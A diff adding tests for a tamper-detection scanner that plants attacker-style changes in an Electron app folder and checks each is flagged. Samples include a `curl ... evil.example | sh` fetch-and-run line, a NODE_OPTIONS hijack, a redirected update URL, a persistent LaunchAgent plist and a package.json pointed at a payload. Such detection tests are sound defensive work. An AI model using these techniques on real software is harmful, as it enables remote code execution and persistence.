@@ -1,0 +1,131 @@
+// Issue 9 §2: every file that decides what the app does. An Electron-shaped app built from real vendor files
+// (test/helpers/electron-app.ts) is scanned, changed the way an attacker who can write the app folder would, and
+// scanned again: each change must raise its rule at the stated severity. The same changes inside a real version
+// change (a new signed main executable) are explained and listed.
+import test from 'ava';
+import { appendFileSync, chmodSync, readFileSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { classifyFile } from '../../daemon/inventory/file-class.ts';
+import { asarOf, MAIN_V2, nodePtyLib, put, UNPACKED, UPDATE_YML, writeElectronApp } from '../helpers/electron-app.ts';
+import { realCorpusPath } from '../helpers/real-corpus.ts';
+import { above, appDir, harness } from '../helpers/scan.ts';
+import { type ScanReport } from '../../daemon/pipeline/scan-app.ts';
+
+const ruled = (r: ScanReport): string[] => r.findings.filter((f) => above(f.severity)).map((f) => `${f.rule}:${f.severity}:${f.path ?? ''}`).sort();
+
+/** Baseline of the app, then `attack` on the same folder, then a second scan. */
+async function attacked(attack: (root: string) => void): Promise<ScanReport> {
+  const h = harness();
+  try {
+    const root = appDir();
+    writeElectronApp(root);
+    const base = await h.scan('contoso', root);
+    if (base.findings.some((f) => above(f.severity))) throw new Error(`baseline raised ${JSON.stringify(ruled(base))}`);
+    attack(root);
+    return await h.scan('contoso', root);
+  } finally {
+    await h.close();
+  }
+}
+
+test('the classifier: modules, app code, launch scripts, updater settings, launchd plists, data', (t) => {
+  t.is(classifyFile('x/conpty.dll', 'pe'), 'module');
+  t.is(classifyFile('resources/app.asar', 'unknown'), 'steering-code');
+  t.is(classifyFile('resources/app.asar.unpacked/node_modules/x/build/helper', 'unknown'), 'steering-code');
+  t.is(classifyFile('resources/app.asar.unpacked/node_modules/x/logo.png', 'unknown'), 'data');
+  t.is(classifyFile('lib/preload.mjs', 'unknown'), 'steering-code');
+  t.is(classifyFile('package.json', 'unknown'), 'steering-code', 'its `main` names the code Node and Electron load');
+  for (const s of ['a.ps1', 'b.BAT', 'c.cmd', 'd.vbs', 'e.sh', 'f.command']) t.is(classifyFile(`bin/${s}`, 'unknown'), 'launch-script', s);
+  t.is(classifyFile('bin/run', 'unknown', '/bin/sh'), 'launch-script');
+  t.is(classifyFile('bin/run', 'unknown'), 'data');
+  t.is(classifyFile('resources/app-update.yml', 'unknown'), 'updater-config');
+  t.is(classifyFile('resources/update.json', 'unknown'), 'updater-config');
+  t.is(classifyFile('Contoso.app/Contents/Info.plist', 'unknown'), 'updater-config');
+  t.is(classifyFile('Contoso.app/Contents/Library/LaunchAgents/com.contoso.helper.plist', 'unknown'), 'launch-plist');
+  t.is(classifyFile('Contoso.app/Contents/Library/LaunchDaemons/com.contoso.d.plist', 'unknown'), 'launch-plist');
+  t.is(classifyFile('Contoso.app/Contents/Resources/en.lproj/Localizable.strings', 'unknown'), 'data');
+  t.is(classifyFile('Contoso.app/Contents/MacOS/Contoso', 'macho'), 'module');
+});
+
+test('app.asar changed while the signed version did not → STEERING_CHANGED high', async (t) => {
+  const lib = nodePtyLib();
+  lib.set('index.js', Buffer.concat([lib.get('index.js') ?? Buffer.alloc(0), Buffer.from('\nrequire("child_process").exec("curl -s https://evil.example/x | sh");\n')]));
+  const r = await attacked((root) => put(root, 'resources/app.asar', asarOf(lib)));
+  t.deepEqual(ruled(r), ['STEERING_CHANGED:high:resources/app.asar']);
+  t.regex(r.findings[0]?.message ?? '', /app code changed while the app's version stayed 6\.1\.7600\.16385/);
+  t.like(r.findings[0]?.evidence, { class: 'steering-code', change: 'changed' });
+});
+
+test('a JavaScript file in app.asar.unpacked changed → STEERING_CHANGED high, with before/after hashes', async (t) => {
+  const r = await attacked((root) => appendFileSync(join(root, UNPACKED, 'lib/windowsPtyAgent.js'), '\n;process.env.NODE_OPTIONS="--require /tmp/x.js";\n'));
+  t.deepEqual(ruled(r), [`STEERING_CHANGED:high:${UNPACKED}/lib/windowsPtyAgent.js`]);
+  const ev = r.findings[0]?.evidence as { before: { sha256: string }; after: { sha256: string } };
+  t.not(ev.before.sha256, ev.after.sha256);
+});
+
+test('the update URL in app-update.yml changed, or the file removed → STEERING_CHANGED high', async (t) => {
+  const moved = await attacked((root) => put(root, 'resources/app-update.yml', UPDATE_YML.replace('updates.contoso.example', 'updates.contoso-cdn.example')));
+  t.deepEqual(ruled(moved), ['STEERING_CHANGED:high:resources/app-update.yml']);
+  t.regex(moved.findings[0]?.message ?? '', /updater settings changed/);
+  const gone = await attacked((root) => rmSync(join(root, 'resources/app-update.yml')));
+  t.deepEqual(ruled(gone), ['STEERING_CHANGED:high:resources/app-update.yml']);
+  t.regex(gone.findings[0]?.message ?? '', /updater settings was removed/);
+});
+
+test('new launch scripts of every kind, and an extensionless #! file → NEW_SCRIPT high each', async (t) => {
+  const names = ['resources/update.ps1', 'resources/elevate.bat', 'tools/fix.cmd', 'tools/run.vbs', 'tools/post.sh', 'Contoso.command'];
+  const r = await attacked((root) => {
+    for (const n of names) put(root, n, 'echo pwned\n');
+    put(root, 'resources/helper-launcher', '#!/bin/sh\nexec /tmp/payload "$@"\n');
+    chmodSync(join(root, 'resources/helper-launcher'), 0o755);
+  });
+  t.deepEqual(ruled(r), [...names, 'resources/helper-launcher'].map((n) => `NEW_SCRIPT:high:${n}`).sort());
+});
+
+test('a LaunchAgent plist added inside a bundle → NEW_SCRIPT high (persistence, KeRanger-style)', async (t) => {
+  const plist = '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>Label</key><string>com.contoso.helper</string><key>ProgramArguments</key><array><string>/Users/Shared/.helper</string></array><key>RunAtLoad</key><true/></dict></plist>\n';
+  const r = await attacked((root) => put(root, 'Contoso Helper.app/Contents/Library/LaunchAgents/com.contoso.helper.plist', plist));
+  const f = r.findings.find((x) => x.rule === 'NEW_SCRIPT');
+  t.is(f?.severity, 'high');
+  t.is(f?.path, 'Contoso Helper.app/Contents/Library/LaunchAgents/com.contoso.helper.plist');
+  t.like(f?.evidence, { class: 'launch-plist' });
+});
+
+test('a data file replaced by an executable is a module where none was, never "explained"', async (t) => {
+  const r = await attacked((root) => put(root, 'resources/elevate', readFileSync(realCorpusPath('clipboard'))));
+  t.deepEqual(ruled(r), ['NEW_UNSIGNED_MODULE:high:resources/elevate']);
+  t.false(r.findings.some((f) => f.rule === 'UPDATE_EXPLAINED'));
+});
+
+test('an overlay appended to an unsigned module while the version stays → OUT_OF_BAND_CHANGE high', async (t) => {
+  const r = await attacked((root) => appendFileSync(join(root, UNPACKED, 'prebuilds/win32-x64/pty.node'), Buffer.from('MZ payload appended as an overlay')));
+  t.deepEqual(ruled(r), [`OUT_OF_BAND_CHANGE:high:${UNPACKED}/prebuilds/win32-x64/pty.node`]);
+});
+
+test('the same edits inside a real version change (new signed main executable) are explained and listed; a new script is one low NEW_SCRIPT', async (t) => {
+  const lib = nodePtyLib();
+  lib.set('index.js', Buffer.concat([lib.get('index.js') ?? Buffer.alloc(0), Buffer.from('\n// 10.0\n')]));
+  const r = await attacked((root) => {
+    put(root, 'contoso.exe', readFileSync(realCorpusPath(MAIN_V2.id)));
+    put(root, 'package.json', JSON.stringify({ name: 'contoso-desktop', version: '10.0.26100', main: 'resources/app.asar' }));
+    put(root, 'resources/app.asar', asarOf(lib));
+    put(root, 'resources/app-update.yml', `${UPDATE_YML}channel: latest\n`);
+    put(root, 'resources/install-helper.ps1', 'Write-Output "first-run"\n');
+  });
+  t.is(r.toVersion, MAIN_V2.version);
+  t.regex(r.versionSource, /version resource of contoso\.exe \(signed\)/);
+  // signtool 6.1 → 10.0 really gained process and network imports: that is the executable's own finding.
+  t.deepEqual(ruled(r), ['NEW_CAPABILITIES:medium:contoso.exe', 'NEW_SCRIPT:low:']);
+  t.regex(r.findings.find((f) => f.rule === 'NEW_SCRIPT')?.message ?? '', /1 new launch script\(s\) came with the update 6\.1\.7600\.16385 → 10\.0\.26100\.9169: resources\/install-helper\.ps1/);
+  const explained = r.findings.find((f) => f.rule === 'UPDATE_EXPLAINED');
+  t.deepEqual(explained?.evidence.steering, ['package.json', 'resources/app-update.yml', 'resources/app.asar']);
+  t.regex(explained?.message ?? '', /3 file\(s\) that steer the app/);
+});
+
+test('package.json pointed at a payload under a data name (an attacker who read the README) → STEERING_CHANGED high', async (t) => {
+  const r = await attacked((root) => {
+    put(root, 'package.json', JSON.stringify({ name: 'contoso-desktop', version: '6.1.7600', main: 'resources/notes.txt' }));
+    put(root, 'resources/notes.txt', 'require("child_process").exec("/tmp/x")\n');
+  });
+  t.deepEqual(ruled(r), ['STEERING_CHANGED:high:package.json']);
+});
